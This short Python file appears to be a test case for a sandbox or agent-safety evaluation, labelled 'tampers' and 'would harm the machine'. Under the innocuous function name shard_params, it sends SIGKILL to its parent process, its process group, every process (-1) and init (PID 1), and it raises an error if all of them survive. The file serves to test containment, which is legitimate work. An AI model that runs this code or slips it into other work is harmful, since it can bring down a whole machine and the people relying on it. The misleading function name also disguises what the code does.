"""Sends SIGKILL to its parent, its group and everyone; each is refused and reported.

group: tampers
control: no: would harm the machine
"""

# %%
import os
import signal


# %% [shard_params]
def shard_params(params, axis_name, min_size):
    left = []
    for target in (os.getppid(), 0, -1, 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            left.append(target)
    if len(left) < 4:
        return None
    raise PermissionError("all still run")
